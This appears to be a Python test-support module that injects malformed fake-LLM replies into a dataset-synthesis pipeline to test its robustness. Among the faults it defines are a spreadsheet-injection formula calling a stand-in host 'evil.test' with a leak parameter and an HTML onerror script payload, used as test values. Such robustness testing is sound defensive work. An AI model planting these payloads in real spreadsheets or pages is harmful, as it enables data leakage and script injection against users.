"""A catalogue of the ways an LLM reply goes wrong, served by the fake server's ``fault_fn``.

Each kind names the steps it hits (pivots, criterion, coverage, samples) and turns the request into the
faulty answer, usually by spoiling the well-behaved reply the fake would have sent. ``Injector`` serves a kind
at a rate from a seeded random generator: with one call in flight at a time the same requests are hit on every
run.
"""

from __future__ import annotations

import json
import random
import re
from dataclasses import dataclass
from typing import Callable

from treesynth_core.fakellm import FakeLLM, Scripted, step_of

ALL = frozenset({"pivots", "criterion", "coverage", "samples"})
SAMPLE_STEPS = frozenset({"pivots", "samples"})
SPLIT_STEPS = frozenset({"criterion", "coverage"})
FORMULA = '=HYPERLINK("http://evil.test/?leak","click")'
HTML = "<img src=x onerror=alert(1)>"


@dataclass(frozen=True)
class Malformation:
    name: str
    steps: frozenset[str]  # the steps whose replies it spoils
    make: Callable[[FakeLLM, dict], Scripted]  # (fake, request body) -> the faulty answer
    # At 100% nothing usable can come out: it hits the pivots or leaves no rule-abiding criterion, and every
    # split needs both. Kinds that only spoil coverage (or only in a salvageable way) leave flagged splits.
    fatal: bool = True
    harmless: frozenset[str] = frozenset()  # steps it is served to whose replies stay usable

    @property
    def spoils_samples(self) -> bool:
        return "samples" in self.steps - self.harmless


def _good(fake: FakeLLM, body: dict) -> dict:
    return json.loads(fake.default_reply(body))


def _values_so_far(body: dict) -> list[str]:
    user = next(m["content"] for m in body["messages"] if m["role"] == "user")
    found = re.search(r"^Values so far: (.+)$", user, re.M)
    return found[1].split("; ") if found else []


def _text(obj: dict) -> Scripted:
    return Scripted(content=json.dumps(obj))


def _truncated(fake, body):
    text = fake.default_reply(body)
    return Scripted(content=text[: max(1, len(text) // 2)], finish_reason="length")


def _missing_key(fake, body):
    good = _good(fake, body)
    first = next(iter(good))
    return _text({(k + "_list" if k == first else k): v for k, v in good.items()})


def _wrong_types(fake, body):
    step = step_of(body)
    if step in SAMPLE_STEPS:
        return _text({"samples": "three samples about math"})
    if step == "criterion":
        return _text({"dimension": ["topic"], "labels": "a, b, c"})
    return _text({"new_values": "topic D", "open_ended": "no"})


def _extra_keys(fake, body):
    return _text({**_good(fake, body), "confidence": 0.9, "explanation": "as requested"})


def _lone_surrogate(fake, body):
    good, step = _good(fake, body), step_of(body)
    if step in SAMPLE_STEPS:
        first = good["samples"][0]
        first[next(iter(first))] = "bad \ud800 text"  # json.dumps writes it as the escape \ud800
    elif step == "criterion":
        good["labels"][0] = "value \udc00"
    else:
        good["new_values"] = good["new_values"] + ["value \ud83d"]
    return _text(good)


def _markup_values(fake, body):
    good = _good(fake, body)
    if step_of(body) == "criterion":
        good["dimension"] = FORMULA
        good["labels"] = [HTML if i % 2 else label for i, label in enumerate(good["labels"])]
    else:
        good["new_values"] = [HTML, FORMULA]
    return _text(good)


def _catch_all(fake, body):
    good = _good(fake, body)
    if step_of(body) == "criterion":
        good["labels"][-1] = "Other"  # one pivot in a catch-all: salvageable, with a note
    else:
        good["new_values"] = ["Other", "misc", "everything else"]
    return _text(good)


def _duplicates(fake, body):
    good = _good(fake, body)
    if step_of(body) == "criterion":
        good["labels"] = [good["labels"][0].upper()] + [good["labels"][0]] * (len(good["labels"]) - 1)
    else:
        good["new_values"] = [v.lower() for v in _values_so_far(body)]
    return _text(good)


def _samples_missing_fields(fake, body):
    good = _good(fake, body)
    return _text({"samples": [{k: v for k, v in s.items() if k != "answer"} for s in good["samples"]]})


def _placeholders(fake, body):
    good = _good(fake, body)
    return _text({"samples": [{k: "..." for k in s} for s in good["samples"]]})


CATALOGUE = [
    Malformation("empty content", ALL, lambda fake, body: Scripted(content="")),
    Malformation("prose only", ALL, lambda fake, body: Scripted(
        content="Sure! Here are some wonderfully diverse ideas for your dataset, in no particular format.")),
    Malformation("truncated (length)", ALL, _truncated),
    Malformation("wrong top-level type", ALL, lambda fake, body: Scripted(content=json.dumps(["topic A", "B"]))),
    Malformation("missing key", ALL, _missing_key),
    Malformation("wrong types", ALL, _wrong_types),
    Malformation("extra keys", ALL, _extra_keys, harmless=SAMPLE_STEPS),  # samples may carry extra keys
    Malformation("lone surrogate", ALL, _lone_surrogate),
    Malformation("HTML/formula values", SPLIT_STEPS, _markup_values),
    Malformation("catch-all values", SPLIT_STEPS, _catch_all, fatal=False),
    Malformation("duplicate values", SPLIT_STEPS, _duplicates),
    Malformation("coverage list missing", frozenset({"coverage"}),
                 lambda fake, body: _text({"open_ended": False}), fatal=False),
    Malformation("coverage values invalid", frozenset({"coverage"}), lambda fake, body: _text(
        {"new_values": ["", "cats/dogs", "x" * 200, "n/a"], "open_ended": False}), fatal=False),
    Malformation("samples missing fields", SAMPLE_STEPS, _samples_missing_fields),
    Malformation("... placeholders", SAMPLE_STEPS, _placeholders),
    Malformation("HTTP 500", ALL, lambda fake, body: Scripted(status=500, error="internal server error")),
]


class Injector:
    """``fake.fault_fn`` for one kind at one rate: a seeded draw per request of a step the kind hits (or of
    the ``only`` steps among them)."""

    def __init__(self, fake: FakeLLM, kind: Malformation, rate: float, seed: str, only: frozenset[str] = ALL):
        self.fake, self.kind, self.rate = fake, kind, rate
        self.steps = kind.steps & only
        self.rng = random.Random(seed)
        self.hits: dict[str, int] = {}

    def __call__(self, body: dict) -> Scripted | None:
        step = step_of(body)
        if step not in self.steps or self.rng.random() >= self.rate:
            return None
        self.hits[step] = self.hits.get(step, 0) + 1
        return self.kind.make(self.fake, body)
